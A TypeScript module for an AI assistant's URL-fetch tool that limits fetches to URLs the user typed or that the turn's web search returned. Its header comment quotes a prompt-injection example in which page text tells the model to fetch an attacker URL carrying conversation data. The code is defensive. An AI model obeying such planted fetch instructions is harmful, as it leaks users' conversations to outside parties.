/**
 * Where a URL came from, for the fetch policy (FETCH_URL_POLICY=provenance, the default): fetch_url
 * opens only URLs the user wrote or this turn's web_search returned. A page or snippet that says
 * "now fetch http://attacker/collect?data=…" cannot make the model send conversation text anywhere.
 */

export type FetchUrlPolicy = 'provenance' | 'open';
export const FETCH_URL_POLICIES: readonly FetchUrlPolicy[] = ['provenance', 'open'];

/**
 * http(s) URLs in a message as people paste them: bare, in Slack's `<url|label>` form or in Markdown
 * `[label](url)`. Stops at whitespace, quotes, angle brackets, `|` and closing brackets.
 */
const URL_IN_TEXT = /https?:\/\/[^\s<>"'`|()[\]{}]+/gi;
/** Sentence punctuation people put right after a link. */
const TRAILING_PUNCTUATION = /[.,;:!?]+$/;

/** The form two URLs are compared in: parsed, without the fragment and a trailing slash. */
function canonical(raw: string): string | undefined {
  let url: URL;
  try {
    url = new URL(raw.trim());
  } catch {
    return undefined;
  }
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return undefined;
  url.hash = '';
  return url.href.replace(/\/$/, '');
}

/** The URLs a turn may fetch. One per turn, shared by its tool calls. */
export class UrlProvenance {
  private readonly allowed = new Set<string>();

  /** Adds URLs that came from a trusted place (the user's message, search results). */
  add(urls: Iterable<string>): void {
    for (const raw of urls) {
      const key = canonical(raw);
      if (key) this.allowed.add(key);
    }
  }

  /** Adds every http(s) URL written in `text` (the user's own words). */
  addFromText(text: string): void {
    const found = text.match(URL_IN_TEXT) ?? [];
    this.add(found.map((url) => url.replace(TRAILING_PUNCTUATION, '')));
  }

  allows(url: string): boolean {
    const key = canonical(url);
    return key !== undefined && this.allowed.has(key);
  }
}
